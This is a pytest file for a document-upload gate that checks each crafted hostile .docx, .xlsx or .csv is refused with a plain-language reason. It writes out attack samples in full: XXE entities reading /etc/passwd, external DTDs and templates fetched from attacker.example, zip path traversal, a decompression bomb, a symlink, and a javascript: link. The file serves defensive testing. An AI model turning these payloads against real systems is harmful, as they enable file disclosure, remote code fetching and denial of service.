"""Hostile files: one trick a file, each refused before anything in it is parsed, with a sentence that says why."""

import io
import random
import stat
import struct
import time
import zipfile

import docx
import openpyxl
import pytest

from sightline.chronology.outside import gate
from sightline.chronology.outside.gate import Kind, admit
from sightline.chronology.rules.tables import FileError


def word_file() -> bytes:
    document = docx.Document()
    table = document.add_table(rows=2, cols=2)
    for cell, text in zip(table._cells, ("Date", "Event", "3/4/22", "Seen by Siân"), strict=True):
        cell.text = text
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel_file() -> bytes:
    book = openpyxl.Workbook()
    book.active.append(["Date", "Event"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def changed(
    content: bytes, *, add: dict[str, bytes] | None = None, edit: dict[str, tuple[bytes, bytes]] | None = None
) -> bytes:
    """The same archive with parts added, or words in a part exchanged."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.infolist():
            data = old.read(member)
            for before, after in [(edit or {}).get(member.filename, (b"", b""))]:
                if before:
                    assert before in data
                    data = data.replace(before, after, 1)
            new.writestr(member.filename, data)
        for name, data in (add or {}).items():
            new.writestr(name, data)
    return out.getvalue()


def refusal(name: str, content: bytes) -> str:
    with pytest.raises(FileError) as refused:
        admit(name, content)
    return str(refused.value)


NOT_WORD = "The file is called .docx but is not one: open it in Word or Excel and save it again"
LOCKED = "The file is locked with a password, or is an old Word or Excel file: save it unlocked as .docx or .xlsx"
RELS = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"


def with_relation(kind: str, target: str, mode: str = "External") -> bytes:
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    line = f'<Relationship Id="rIdX" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    return changed(word_file(), edit={RELS: (b"</Relationships>", line.encode())})


def test_good_files_are_let_in():
    assert admit("police.docx", word_file()).kind is Kind.DOCX
    assert admit("health.XLSX", excel_file()).kind is Kind.XLSX
    assert admit("school.csv", "Date,Event\n3/4/22,Seen".encode("utf-16")).kind is Kind.CSV


def test_a_hyperlink_is_let_in():
    assert admit("a.docx", with_relation("hyperlink", "https://example.org/")).kind is Kind.DOCX


@pytest.mark.parametrize(
    ("name", "sentence"),
    [
        ("a.docm", "This file can hold macros (.docm): save it as .docx or .xlsx and send that"),
        ("a.doc", "This is an old or other format (.doc): save it as .docx and send that"),
        ("a.xls", "This is an old or other format (.xls): save it as .xlsx and send that"),
        ("a.pdf", "Only .docx, .xlsx, .csv and .tsv files can be read: save the chronology as one of these"),
        ("docx", "Only .docx, .xlsx, .csv and .tsv files can be read: save the chronology as one of these"),
    ],
)
def test_kinds_that_are_never_read(name, sentence):
    assert refusal(name, word_file()) == sentence


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.docx", b"", "The file is empty"),
        ("a.docx", b"Dear all", NOT_WORD),
        ("a.docx", b"%PDF-1.7 ...", NOT_WORD),
        ("a.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100),
         LOCKED),
        ("a.csv", b"%PDF-1.7", "The file is called .csv but holds something else: save it again as .csv"),
        ("a.csv", b"PK\x03\x04....", "The file is called .csv but holds something else: save it again as .csv"),
        ("a.csv", b"<html><body>3/4/22", "The file is called .csv but is a web page or XML: save it again as .csv"),
        ("a.csv", random.Random(1).randbytes(4000),
         "The file is called .csv but is not text: save it again as .csv"),
        ("a.xlsx", word_file(), "The file is called .xlsx but is not one: open it in Word or Excel and save it again"),
        ("a.docx", excel_file(), NOT_WORD),
        ("a.docx", b"PK\x03\x04" + bytes(60), "The file is damaged: open it in Word or Excel and save it again"),
        ("a.docx", word_file()[:-300], "The file is damaged: open it in Word or Excel and save it again"),
        ("a.docx", changed(word_file(), add={"word/vbaProject.bin": b"x"}),
         "The file holds macros: save it as .docx or .xlsx without them"),
        ("a.docx", changed(word_file(), edit={TYPES: (b".document.main+xml", b".document.macroEnabled.main+xml")}),
         "The file holds macros: save it as .docx or .xlsx without them"),
        ("a.docx", changed(word_file(), add={"word/embeddings/oleObject1.bin": b"x"}),
         "The file holds an embedded object, a control or a link to another file: remove it and save again"),
        ("a.docx", changed(word_file(), add={"word/activeX/activeX1.xml": b"<x/>"}),
         "The file holds an embedded object, a control or a link to another file: remove it and save again"),
        ("a.docx", changed(word_file(), add={"word/media/image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}),
         "The file has another file inside it: remove the embedded file and save it again"),
        ("a.docx", changed(word_file(), add={"word/media/image1.png": b"PK\x03\x04"}),
         "The file has another file inside it: remove the embedded file and save it again"),
        ("a.docx", changed(word_file(), add={"word/inner.zip": b"x"}),
         "The file has another file inside it: remove the embedded file and save it again"),
        ("a.docx", changed(word_file(), add={"../../etc/cron.d/x": b"x"}),
         "The file has a part whose name leads outside it"),
        ("a.docx", changed(word_file(), add={"/etc/x": b"x"}), "The file has a part whose name leads outside it"),
        ("a.docx", changed(word_file(), add={"C:x": b"x"}), "The file has a part whose name leads outside it"),
        ("a.docx", with_relation("attachedTemplate", "http://attacker.example/t.dotm"),
         "The file holds a template attached from elsewhere: remove it and save the file again"),
        ("a.docx", with_relation("image", "http://attacker.example/i.png"),
         "The file fetches something from elsewhere (a linked picture, template or workbook): remove the link"),
        ("a.docx", with_relation("aFChunk", "chunk.htm", "Internal"),
         "The file holds another document embedded in it: remove it and save the file again"),
        ("a.docx", with_relation("hyperlink", "javascript:alert(1)"),
         "The file has a link that runs a program: remove the link and save the file again"),
        ("a.docx", changed(word_file(), add={"EVIL/../x": b"x"}), "The file has a part whose name leads outside it"),
    ],
)  # fmt: skip
def test_one_trick_a_file(name, content, sentence):
    assert refusal(name, content) == sentence


@pytest.mark.parametrize("mode", ["&#69;xternal", "External", "external"])
@pytest.mark.parametrize("target", ["http://attacker.example/i.png", "http://attacker.example/&gt;i.png"])
def test_no_spelling_hides_a_relation(mode, target):
    content = with_relation("image", target, mode)
    for told in (content, changed(content, edit={RELS: (b'Id="rIdX"', b'Id="r>IdX"')})):
        assert refusal("a.docx", told) == (
            "The file fetches something from elsewhere (a linked picture, template or workbook): remove the link"
        )


def test_no_spelling_hides_macros():
    content = changed(word_file(), edit={TYPES: (b".document.main+xml", b".document.macro&#69;nabled.main+xml")})
    assert refusal("a.docx", content) == "The file holds macros: save it as .docx or .xlsx without them"


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">',
    ],
)
@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", RELS, TYPES, "docProps/app.xml"])
def test_entities_are_refused_in_every_part(doctype, part):
    content = word_file()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        declaration = archive.read(part).split(b"?>", 1)[0] + b"?>"
    told = refusal("a.docx", changed(content, edit={part: (declaration, declaration + doctype)}))
    assert told == "The file declares XML entities, which documents never need: the file looks like an attack"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_entities_are_found_in_utf_16(encoding):
    part = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'.encode(encoding)
    told = refusal("a.docx", changed(word_file(), add={"word/extra.xml": part}))
    assert told == "The file declares XML entities, which documents never need: the file looks like an attack"


@pytest.mark.parametrize("encoding", [b"utf-7", b"cp037", b"utf-32"])
def test_encodings_that_could_hide_entities_are_refused(encoding):
    part = b'<?xml version="1.0" encoding="' + encoding + b'"?><x/>'
    told = refusal("a.docx", changed(word_file(), add={"word/extra.xml": part}))
    assert told == "A part of the file is written in an unusual encoding: open it in Word or Excel and save it again"


def test_a_bomb_is_refused_quickly_and_unopened():
    content = changed(word_file(), add={"word/bomb.xml": b"<x>" + b" " * 150_000_000 + b"</x>"})
    assert len(content) < 400_000
    started = time.process_time()
    told = refusal("a.docx", content)
    assert told == "A part of the file unpacks to more than 100 times its size: the file looks like an attack"
    assert time.process_time() - started < 0.2


def test_too_large_when_unpacked():
    content = changed(word_file(), add={f"word/{n}.bin": bytes(90_000_000) for n in range(3)})
    assert refusal("a.docx", content) == "The file unpacks to 258 MB: the most is 200 MB"


def test_too_many_parts():
    content = changed(word_file(), add={f"word/{n}": b"" for n in range(2001)})
    assert refusal("a.docx", content).endswith("parts inside: the most is 2000")


def test_too_large_as_it_is(monkeypatch):
    monkeypatch.setattr(gate, "MOST_BYTES", 1024 * 1024)
    assert refusal("a.csv", b"a,b\n" * 600_000) == "The file is 2 MB: the most is 1 MB"


def test_a_locked_archive_is_refused():
    content = bytearray(word_file())
    at = content.find(b"PK\x01\x02")
    flags = struct.unpack_from("<H", content, at + 8)[0]
    struct.pack_into("<H", content, at + 8, flags | 1)
    assert refusal("a.docx", bytes(content)) == "The file is locked with a password: save it without one"


def test_a_symbolic_link_is_refused():
    out = io.BytesIO(word_file())
    with zipfile.ZipFile(out, "a") as archive:
        link = zipfile.ZipInfo("word/link")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    assert refusal("a.docx", out.getvalue()) == "The file has a link to another file inside it"


def test_something_in_front_of_the_archive_is_refused():
    told = refusal("a.docx", b"PK\x03\x04 not really" + word_file())
    assert told == "The file has something else in front of it: open it in Word or Excel and save it again"


def test_a_lying_size_is_refused():
    content = bytearray(changed(word_file(), add={"word/big.txt": b"a" * 5000}))
    at = content.find(b"word/big.txt", content.find(b"PK\x01\x02"))
    struct.pack_into("<I", content, at - 46 + 24, 10)
    assert refusal("a.docx", bytes(content)) == "The file is damaged: open it in Word or Excel and save it again"


def test_parts_that_overlap_are_refused():
    content = bytearray(word_file())
    at = content.find(b"PK\x01\x02")
    struct.pack_into("<I", content, at + 20, 10_000_000)
    assert refusal("a.docx", bytes(content)) == "The file is damaged: its parts overlap"


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_parts_of_one_name_are_refused():
    out = io.BytesIO(word_file())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/document.xml", b"<x/>")
    assert refusal("a.docx", out.getvalue()) == "The file is damaged: two of its parts have the same name"
